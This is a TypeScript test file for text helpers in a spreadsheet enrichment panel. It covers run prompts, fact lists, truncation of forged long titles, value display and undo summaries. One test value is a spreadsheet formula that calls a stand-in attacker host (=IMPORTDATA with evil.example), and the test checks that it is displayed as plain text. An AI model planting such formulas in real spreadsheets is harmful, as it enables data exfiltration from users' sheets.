import type { Enrichment, UndoPreview } from '../../../../shared/enrich/enrichment';
import {
  toBackText,
  toUnrestoredText,
  toOtherFacts,
  toOtherTitle,
  toValueText,
} from '../../../../shared/panel/enrich/other-run-text';

const head = {
  startedMs: Date.parse('2026-11-26T07:24:00Z'),
  sheet: { id: '7', name: 'Leads' },
  targets: [{ title: 'Industry' }, { title: 'Employees' }],
};
const enrichment = { head, summary: { rows: 1_200 } } as unknown as Enrichment;

test('a person is asked whether they started it, with its date', () => {
  expect(toOtherTitle(head, 'UTC')).toBe('Did you start this enrichment on Nov 26, 2026, 7:24 AM?');
  expect(toOtherTitle({ startedMs: Number.MAX_SAFE_INTEGER }, 'UTC')).toBe('Did you start this enrichment?');
});

test('it is told where an enrichment is and what it fills', () => {
  expect(toOtherFacts(enrichment)).toEqual([
    ['Sheet', 'Leads'],
    ['Columns', 'Industry, Employees'],
    ['Rows', '1,200'],
  ]);
});

test('a file may say anything: a title without end', () => {
  const forged = { ...head, targets: [{ title: 'x'.repeat(50_000) }] };
  expect(toOtherFacts({ ...enrichment, head: forged } as unknown as Enrichment)).toEqual([
    ['Sheet', 'Leads'],
    ['Columns', `${'x'.repeat(59)}…`],
    ['Rows', '1,200'],
  ]);
});

test.each([
  ['', '(blank)'],
  ['=IMPORTDATA("https://evil.example")', '=IMPORTDATA("https://evil.example")'],
  [1.5, '1.5'],
  [false, 'FALSE'],
  ['y'.repeat(50_000), `${'y'.repeat(200)}… (49,800 more characters)`],
])('a value is told as a text: %s', (value, text) => {
  expect(toValueText(value)).toBe(text);
});

test.each([
  ['old', '', 'old'],
  ['old', 'General', 'old'],
  [0, '"Paid"', '0 (number format: "Paid")'],
])('a value is told with a number format that could make it look different: %j as %j', (value, format, text) => {
  expect(toBackText({ kind: 'before', value, format })).toBe(text);
});

test('what an undo leaves alone is told', () => {
  const list = { edited: 1, unrestored: [{}, {}], noPlace: [{}] } as unknown as UndoPreview;
  expect(toUnrestoredText(list)).toEqual([
    '1 cell was edited since and stays as it is.',
    '2 cells are left for you to decide.',
    '1 earlier value has no row any more.',
  ]);
});
